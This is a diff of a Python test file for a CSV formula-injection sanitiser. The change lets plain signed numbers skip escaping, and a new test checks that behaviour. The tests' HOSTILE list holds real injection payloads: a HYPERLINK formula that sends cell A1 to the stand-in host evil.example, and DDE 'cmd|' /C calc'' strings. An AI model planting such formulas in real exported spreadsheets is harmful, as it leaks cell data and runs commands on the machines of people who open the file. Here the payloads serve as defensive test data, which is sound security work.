@@ -33,7 +33,7 @@ from helpers.tiny import V1, X0, Y0
 #: What OWASP lists, and what the review found: links, DDE, functions, tab/CR-led formulas.
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
+_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?")
 
 
 def unescaped(cells) -> list[str]:
@@ -61,7 +61,7 @@ def test_neutralise_formulas_quotes_text_not_numbers():
         "mixed": [-7, "-x", None, 1.5, "=x"],
     }, index=pd.Index(["=A1", "b", "c", "d", "e"], name="code"))
     out = neutralise_formulas(frame)
-    assert list(out["text"][:2]) == ["'-12.5", "'+8613800000000"]   # text is text (OWASP)
+    assert list(out["text"][:2]) == ["-12.5", "+8613800000000"]   # plain numbers stay numbers
     assert list(out["text"][2:4]) == ["a=b", "plain"] and pd.isna(out["text"].iloc[4])
     assert out["number"].tolist() == frame["number"].tolist() and out["number"].dtype == float
     assert out["mixed"].tolist()[:2] == [-7, "'-x"] and out["mixed"].iloc[4] == "'=x"
@@ -72,6 +72,13 @@ def test_neutralise_formulas_quotes_text_not_numbers():
 
 
 HYPHENATED = ["-12.5", "+8613800000000"]
+
+
+def test_only_plain_numbers_escape_the_quote():
+    values = ["-12.5", "+1e3", "-.5", "+86 138 0000 0000", "-1+2", "-2-3", "=1", "+A1", "-", "@x"]
+    out = neutralise_formulas(pd.DataFrame({"v": values}))["v"].tolist()
+    assert out[:3] == ["-12.5", "+1e3", "-.5"]
+    assert out[3:] == ["'" + v for v in values[3:]]
 
 
 @pytest.fixture
@@ -112,7 +119,7 @@ def test_gridgeo_export_csv_is_safe_in_a_spreadsheet(hostile_store, layer, tmp_p
     if layer == "households":
         h = back.set_index("code")
         assert h.loc["H900", "address"] == "'" + HOSTILE[2] and h.loc["H901", "address"] == "'" + HOSTILE[4].strip()
-        assert h.loc["H900", "contact_phone"] == "'+8613800000000"      # text, quoted as text
+        assert h.loc["H900", "contact_phone"] == "+8613800000000"      # a plain number, as it was
         assert pd.to_numeric(back["population"]).dtype.kind == "i"      # numbers stay numbers
         assert pd.to_numeric(back["lon"]).between(119, 120).all()
     if layer == "categories":
